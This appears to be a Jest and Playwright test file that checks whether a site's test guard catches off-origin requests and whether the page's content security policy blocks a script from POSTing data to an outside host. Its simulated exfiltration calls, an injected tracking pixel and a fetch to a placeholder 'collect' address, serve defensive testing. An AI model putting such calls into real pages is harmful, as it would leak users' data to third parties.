/**
 * The guard of the browser suite must be able to fail, and the page's own policy must stop a script that
 * tries to send data elsewhere.
 */
import type { Server } from 'node:http';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { collectPageErrors, ensureSiteBuilt, guardOrigin, launchChromium, startSiteServer } from './chromium';

jest.setTimeout(120_000);

const OFFSITE = 'http://192.0.2.1/collect';
let server: Server;
let url: string;
let browser: Browser;

beforeAll(async () => {
  ({ server, url } = await startSiteServer(ensureSiteBuilt(join(__dirname, '..', '..'))));
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  server?.close();
});

describe('requests that leave the page’s origin', () => {
  it('are caught by the suite’s guard (so a page that made one fails the suite)', async () => {
    const page = await browser.newPage();
    const offsite = await guardOrigin(page, url.replace(/\/$/, ''));
    await page.goto(url);
    const pixel = OFFSITE.replace('collect', 'pixel.png');
    const seen = page.waitForRequest(pixel);
    await page.evaluate((address) => {
      const image = document.createElement('img');
      image.src = address;
      document.body.append(image);
    }, pixel);
    // Chromium reports the attempt even though the page's policy then blocks it: the guard counts attempts.
    await seen;
    expect(offsite).toEqual([pixel]);
  });

  it('are refused by the page’s content security policy', async () => {
    const page = await browser.newPage();
    const errors = collectPageErrors(page);
    await page.goto(url);
    const outcome = await page.evaluate(
      (address) =>
        fetch(address, { method: 'POST', body: 'ärende' }).then(
          () => 'sent',
          () => 'refused',
        ),
      OFFSITE,
    );
    expect(outcome).toBe('refused');
    expect(errors.join('\n')).toMatch(/Content Security Policy/);
  });
});
